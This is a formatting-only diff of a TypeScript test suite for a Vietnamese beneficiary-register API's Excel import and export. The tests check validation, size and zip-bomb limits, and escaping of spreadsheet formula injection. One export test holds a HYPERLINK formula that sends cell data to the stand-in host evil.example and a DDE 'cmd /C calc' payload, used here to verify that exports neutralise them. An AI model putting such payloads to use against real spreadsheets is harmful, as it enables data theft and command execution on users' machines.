@@ -4,7 +4,18 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import ExcelJS from 'exceljs';
 import { registerExport } from '#read-models';
-import { API_BACKENDS, caughtUp, client, countEvents, leavesLogUnchanged as leavesLogUnchangedIn, ok, type Reply, type RunningApi, signInPeople, startApi } from './testing/api-backends.fixture.js';
+import {
+  API_BACKENDS,
+  caughtUp,
+  client,
+  countEvents,
+  leavesLogUnchanged as leavesLogUnchangedIn,
+  ok,
+  type Reply,
+  type RunningApi,
+  signInPeople,
+  startApi,
+} from './testing/api-backends.fixture.js';
 import { bombOf, entryOf, rowXml, SHEET, SHEET_HEAD, SHEET_TAIL, WORKBOOK_PARTS, workbookOf, zipOf } from '../../../test/support/workbook-files.js';
 
 type Row = [string, string | Date | ExcelJS.CellFormulaValue, string | number, string, string, number | string, string | Date];
@@ -19,7 +30,19 @@ function libreOfficeCsv(file: Uint8Array): string {
   const folder = mkdtempSync(join(tmpdir(), 'hsb-libreoffice-'));
   try {
     writeFileSync(join(folder, 'book.xlsx'), file);
-    const run = spawnSync('soffice', ['--headless', `-env:UserInstallation=file://${folder}/profile`, '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76', '--outdir', folder, join(folder, 'book.xlsx')], { timeout: 60_000 });
+    const run = spawnSync(
+      'soffice',
+      [
+        '--headless',
+        `-env:UserInstallation=file://${folder}/profile`,
+        '--convert-to',
+        'csv:Text - txt - csv (StarCalc):44,34,76',
+        '--outdir',
+        folder,
+        join(folder, 'book.xlsx'),
+      ],
+      { timeout: 60_000 },
+    );
     if (run.status !== 0) throw new Error(`LibreOffice could not read the workbook: ${run.stderr}`);
     return readFileSync(join(folder, 'book.csv'), 'utf8');
   } finally {
@@ -31,7 +54,8 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
   let api: RunningApi;
   let as: Record<'admin' | 'clerk' | 'auditor', ReturnType<typeof client>>;
   let template: Buffer;
-  const leavesLogUnchanged = (request: Promise<Reply>, status: number, expected: Record<string, unknown> = {}) => leavesLogUnchangedIn(api, request, status, expected);
+  const leavesLogUnchanged = (request: Promise<Reply>, status: number, expected: Record<string, unknown> = {}) =>
+    leavesLogUnchangedIn(api, request, status, expected);
   const upload = (file: Uint8Array, query = '') => as.clerk.upload(`/beneficiaries/imports${query}`, file, 'danh-sach.xlsx');
   /** Uploads a list refused whole, nothing appended: its answer, having checked each problem as [row, field, code]. */
   async function refused(file: Uint8Array, problems: readonly (readonly [number, string, string])[]): Promise<Reply> {
@@ -79,11 +103,24 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
       ['Nông Văn Cường', '09/09/1975', '020075000303', 'Trưởng phòng cấp huyện', 'Huyện Văn Quan', '5', '01/01/2025'],
     ]);
     await leavesLogUnchanged(as.auditor.upload('/beneficiaries/imports', list, 'ds.xlsx'), 403);
-    expect(await ok(as.clerk.upload('/beneficiaries/imports', list, 'danh-sach.xlsx'))).toMatchObject({ outcome: 'imported', rows: 3, imported: 3, alreadyImported: 0, errors: [] });
-    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', list, 'danh-sach.xlsx'), 200, { outcome: 'imported', imported: 0, alreadyImported: 3, errors: [] });
+    expect(await ok(as.clerk.upload('/beneficiaries/imports', list, 'danh-sach.xlsx'))).toMatchObject({
+      outcome: 'imported',
+      rows: 3,
+      imported: 3,
+      alreadyImported: 0,
+      errors: [],
+    });
+    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', list, 'danh-sach.xlsx'), 200, {
+      outcome: 'imported',
+      imported: 0,
+      alreadyImported: 3,
+      errors: [],
+    });
     await caughtUp(api);
     const register = await ok(as.auditor.get('/beneficiaries?name=Lương'));
-    expect(register.beneficiaries).toEqual([expect.objectContaining({ fullName: 'Lương Thị Bình', nationalId: '020170000202', group: 4, administrativeUnit: 'Huyện Lộc Bình' })]);
+    expect(register.beneficiaries).toEqual([
+      expect.objectContaining({ fullName: 'Lương Thị Bình', nationalId: '020170000202', group: 4, administrativeUnit: 'Huyện Lộc Bình' }),
+    ]);
   });
 
   it('rejects a list with bad rows, naming each row and column in Vietnamese and English, and appends nothing; on request imports the valid rows', async () => {
@@ -105,7 +142,10 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
       // The same person as on the register (national id, name, date of birth), in another unit: a change, which the import does not record.
       [8, 'administrativeUnit', 'changed'],
     ]);
-    expect(rejected.body.errors[1]).toMatchObject({ vi: 'Đối tượng phải là số từ 1 đến 6, không phải "7"', en: 'The group must be a number from 1 to 6, not "7"' });
+    expect(rejected.body.errors[1]).toMatchObject({
+      vi: 'Đối tượng phải là số từ 1 đến 6, không phải "7"',
+      en: 'The group must be a number from 1 to 6, not "7"',
+    });
     expect(rejected.body.errors[2]).toMatchObject({ vi: 'Trùng số định danh với dòng 3', en: 'The same national id as row 3' });
 
     const before = await countEvents(api.runtime.store);
@@ -122,7 +162,9 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
       errors: [expect.objectContaining({ field: 'file', code: 'layout', en: 'The file is not an Excel workbook (.xlsx)' })],
     });
     await leavesLogUnchanged(as.clerk.post('/beneficiaries/imports', {}), 400, { fields: [expect.objectContaining({ field: 'file' })] });
-    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports?validRowsOnly=maybe', await listOf([]), 'x.xlsx'), 400, { fields: [expect.objectContaining({ field: 'validRowsOnly' })] });
+    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports?validRowsOnly=maybe', await listOf([]), 'x.xlsx'), 400, {
+      fields: [expect.objectContaining({ field: 'validRowsOnly' })],
+    });
   });
 
   it('reads a sheet by the rows it holds: one cell at row 3,000,000 is one row, not three million', async () => {
@@ -145,8 +187,17 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
       max: 10_000,
       fields: [{ field: 'file', message: expect.stringContaining('10,000 rows') }],
     });
-    const wide = Array.from({ length: 7 }, (_, n) => rowXml(n + 2, Array.from({ length: 16_384 }, () => 'x'))).join('');
-    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', workbookOf(rowXml(1, HEADINGS) + wide), 'rong.xlsx'), 422, { rule: 'TooManyCells', limit: 'IMPORT_MAX_CELLS', max: 100_000 });
+    const wide = Array.from({ length: 7 }, (_, n) =>
+      rowXml(
+        n + 2,
+        Array.from({ length: 16_384 }, () => 'x'),
+      ),
+    ).join('');
+    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', workbookOf(rowXml(1, HEADINGS) + wide), 'rong.xlsx'), 422, {
+      rule: 'TooManyCells',
+      limit: 'IMPORT_MAX_CELLS',
+      max: 100_000,
+    });
   });
 
   it('refuses a sheet declared larger than the limit without inflating it, and one that inflates past the limit whatever it declares', async () => {
@@ -172,7 +223,9 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
       ['Vi Văn Khánh', { formula: 'CONCATENATE("01/0","2/1986")' }, '020086000909', 'Trưởng phòng', 'Huyện Bắc Sơn', 5, '01/01/2025'],
     ]);
     const rejected = await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', list, 'cong-thuc.xlsx'), 422, { outcome: 'rejected', rows: 2 });
-    expect(rejected.body.errors).toEqual([expect.objectContaining({ row: 4, field: 'dateOfBirth', code: 'formula', en: expect.stringContaining('row 4, column B') })]);
+    expect(rejected.body.errors).toEqual([
+      expect.objectContaining({ row: 4, field: 'dateOfBirth', code: 'formula', en: expect.stringContaining('row 4, column B') }),
+    ]);
     expect(await ok(as.clerk.upload('/beneficiaries/imports?validRowsOnly=true', list, 'cong-thuc.xlsx'))).toMatchObject({ imported: 1, skipped: 1 });
     await caughtUp(api);
     expect((await ok(as.auditor.get('/beneficiaries?name=Hoàng Thị Hoa'))).beneficiaries).toEqual([expect.objectContaining({ dateOfBirth: '1985-03-04' })]);
@@ -187,15 +240,34 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
     await caughtUp(api);
 
     const csv = ((await registerExport(api.runtime.pool, 'csv')).body as string).split('\r\n');
-    expect(csv.find((line) => line.includes('020085000505'))).toMatch(/^"'=HYPERLINK\(""http:\/\/evil.example\/\?""&A1,""Xem""\)",05\/05\/1985,020085000505,'\+cmd\|' \/C calc'!A0,Huyện Bắc Sơn,4,01\/01\/2025,registered,/);
+    expect(csv.find((line) => line.includes('020085000505'))).toMatch(
+      /^"'=HYPERLINK\(""http:\/\/evil.example\/\?""&A1,""Xem""\)",05\/05\/1985,020085000505,'\+cmd\|' \/C calc'!A0,Huyện Bắc Sơn,4,01\/01\/2025,registered,/,
+    );
     expect(csv.find((line) => line.includes('020086000606'))).toMatch(/^'-2\+3,06\/06\/1986,020086000606,'@SUM\(1\+1\),Huyện Bắc Sơn,4,/);
 
     const exported = (await registerExport(api.runtime.pool, 'xlsx')).body as Buffer;
     const book = new ExcelJS.Workbook();
     await book.xlsx.load(exported as unknown as ArrayBuffer);
     const rows = book.worksheets[0]!.getSheetValues().filter((row) => Array.isArray(row) && row.includes('020085000505'));
-    expect(rows).toEqual([[undefined, `'=HYPERLINK("http://evil.example/?"&A1,"Xem")`, '05/05/1985', '020085000505', "'+cmd|' /C calc'!A0", 'Huyện Bắc Sơn', 4, '01/01/2025', 'registered', expect.any(String)]]);
-    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', new Uint8Array(exported), 'so-dang-ky.xlsx'), 200, { outcome: 'imported', imported: 0, errors: [] });
+    expect(rows).toEqual([
+      [
+        undefined,
+        `'=HYPERLINK("http://evil.example/?"&A1,"Xem")`,
+        '05/05/1985',
+        '020085000505',
+        "'+cmd|' /C calc'!A0",
+        'Huyện Bắc Sơn',
+        4,
+        '01/01/2025',
+        'registered',
+        expect.any(String),
+      ],
+    ]);
+    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', new Uint8Array(exported), 'so-dang-ky.xlsx'), 200, {
+      outcome: 'imported',
+      imported: 0,
+      errors: [],
+    });
   });
 
   it('refuses a text date not written dd/mm/yyyy, naming its row, column and value, and takes Excel date cells', async () => {
@@ -220,7 +292,9 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
     expect(await ok(upload(list, '?validRowsOnly=true'))).toMatchObject({ outcome: 'imported', imported: 1, skipped: 3 });
     expect(await countEvents(api.runtime.store)).toBe(before + 2);
     await caughtUp(api);
-    expect((await ok(as.auditor.get('/beneficiaries?name=Lăng Thị Êm'))).beneficiaries).toEqual([expect.objectContaining({ dateOfBirth: '1979-03-05', enrolledFrom: '2025-01-01' })]);
+    expect((await ok(as.auditor.get('/beneficiaries?name=Lăng Thị Êm'))).beneficiaries).toEqual([
+      expect.objectContaining({ dateOfBirth: '1979-03-05', enrolledFrom: '2025-01-01' }),
+    ]);
   });
 
   it('refuses a unit the registry does not hold on the covered-from date, by code or name, naming its row, column and value', async () => {
@@ -243,7 +317,10 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
     expect(await ok(upload(list, '?validRowsOnly=true'))).toMatchObject({ outcome: 'imported', imported: 1, skipped: 3 });
 
     // A unit renamed since it was created is found by the name it bore on the day, and recorded under its code.
-    await ok(as.admin.post('/administrative-units/changes', { changes: [{ kind: 'renamed', code: 'Xã Na Sầm', name: 'Phường Na Sầm', from: '2026-01-01' }] }), 201);
+    await ok(
+      as.admin.post('/administrative-units/changes', { changes: [{ kind: 'renamed', code: 'Xã Na Sầm', name: 'Phường Na Sầm', from: '2026-01-01' }] }),
+      201,
+    );
     const renamed = await listOf([
       ['Mã Văn Long', '01/01/1980', '020080002005', 'Trưởng phòng', 'Phường Na Sầm', 5, '01/02/2026'],
       ['Mã Thị Mơ', '01/01/1980', '020180002006', 'Trưởng phòng', 'Phường Na Sầm', 5, '01/12/2025'],
@@ -256,10 +333,27 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
 
   it('imports its own register export back: everyone on it, however enrolled or changed since, is unchanged and nothing is recorded', async () => {
     // Enrolled by hand rather than from a list, then moved and reclassified by the 2025 reorganization.
-    const enrolment = { fullName: 'Đinh Văn Lâm', dateOfBirth: '1966-04-02', nationalId: '020066003001', title: 'Bí thư Huyện ủy', administrativeUnit: 'Huyện Đình Lập', group: 3, from: '2025-01-01' };
+    const enrolment = {
+      fullName: 'Đinh Văn Lâm',
+      dateOfBirth: '1966-04-02',
+      nationalId: '020066003001',
+      title: 'Bí thư Huyện ủy',
+      administrativeUnit: 'Huyện Đình Lập',
+      group: 3,
+      from: '2025-01-01',
+    };
     const { beneficiaryId } = await ok(as.clerk.post('/beneficiaries', enrolment), 201);
-    await ok(as.clerk.post(`/beneficiaries/${beneficiaryId}/position-changes`, { title: 'Bí thư Đảng ủy xã', administrativeUnit: 'Xã Đình Lập', from: '2025-07-01' }));
-    await ok(as.clerk.post(`/beneficiaries/${beneficiaryId}/reclassifications`, { group: 4, from: '2025-07-01', reason: 'Chính quyền hai cấp', decisionNumber: '01/QĐ-UBND' }));
+    await ok(
+      as.clerk.post(`/beneficiaries/${beneficiaryId}/position-changes`, { title: 'Bí thư Đảng ủy xã', administrativeUnit: 'Xã Đình Lập', from: '2025-07-01' }),
+    );
+    await ok(
+      as.clerk.post(`/beneficiaries/${beneficiaryId}/reclassifications`, {
+        group: 4,
+        from: '2025-07-01',
+        reason: 'Chính quyền hai cấp',
+        decisionNumber: '01/QĐ-UBND',
+      }),
+    );
     const { beneficiaryId: erased } = await ok(as.clerk.post('/beneficiaries', { ...enrolment, fullName: 'Đinh Thị Mai', nationalId: '020166003002' }), 201);
     await ok(as.admin.post(`/beneficiaries/${erased}/erasure`, { reason: 'Request under the Personal Data Protection Law' }));
     await caughtUp(api);
@@ -275,15 +369,30 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
     const sheet = book.worksheets[0]!;
     expect(sheet.rowCount).toBe(people + 1);
     expect(sheet.getRow(1).values).toEqual([undefined, ...HEADINGS, 'Trạng thái', 'Mã đối tượng']);
-    expect(sheet.getSheetValues().find((row) => Array.isArray(row) && row.includes(beneficiaryId))).toEqual([undefined, 'Đinh Văn Lâm', '02/04/1966', '020066003001', 'Bí thư Đảng ủy xã', 'Xã Đình Lập', 4, '01/01/2025', 'registered', beneficiaryId]);
+    expect(sheet.getSheetValues().find((row) => Array.isArray(row) && row.includes(beneficiaryId))).toEqual([
+      undefined,
+      'Đinh Văn Lâm',
+      '02/04/1966',
+      '020066003001',
+      'Bí thư Đảng ủy xã',
+      'Xã Đình Lập',
+      4,
+      '01/01/2025',
+      'registered',
+      beneficiaryId,
+    ]);
   });
 
   (LIBREOFFICE ? it : it.skip)('writes a register export that LibreOffice reads, headings and Vietnamese intact', async () => {
     const { rows: people, body } = await registerExport(api.runtime.pool, 'xlsx');
-    const lines = libreOfficeCsv(new Uint8Array(body as Buffer)).trimEnd().split('\n');
+    const lines = libreOfficeCsv(new Uint8Array(body as Buffer))
+      .trimEnd()
+      .split('\n');
     expect(lines[0]).toBe([...HEADINGS, 'Trạng thái', 'Mã đối tượng'].join(','));
     expect(lines).toHaveLength(people + 1);
-    expect(lines.find((line) => line.includes('020066003001'))).toMatch(/^Đinh Văn Lâm,02\/04\/1966,020066003001,Bí thư Đảng ủy xã,Xã Đình Lập,4,01\/01\/2025,registered,/);
+    expect(lines.find((line) => line.includes('020066003001'))).toMatch(
+      /^Đinh Văn Lâm,02\/04\/1966,020066003001,Bí thư Đảng ủy xã,Xã Đình Lập,4,01\/01\/2025,registered,/,
+    );
   });
 
   it('refuses a row that differs from the register, naming each column that differs, and one naming a beneficiary id not on the register', async () => {
@@ -295,7 +404,17 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
     sheet.getRow(lam).getCell(4).value = 'Chủ tịch UBND xã';
     sheet.getRow(lam).getCell(6).value = 5;
     const stranger = sheet.rowCount + 1;
-    sheet.getRow(stranger).values = ['Ngô Văn Nam', '01/01/1970', '020070003003', 'Trưởng phòng', 'Huyện Cao Lộc', 5, '01/01/2025', 'registered', 'khong-co-ai'];
+    sheet.getRow(stranger).values = [
+      'Ngô Văn Nam',
+      '01/01/1970',
+      '020070003003',
+      'Trưởng phòng',
+      'Huyện Cao Lộc',
+      5,
+      '01/01/2025',
+      'registered',
+      'khong-co-ai',
+    ];
     const file = new Uint8Array(await book.xlsx.writeBuffer());
 
     const rejected = await refused(file, [
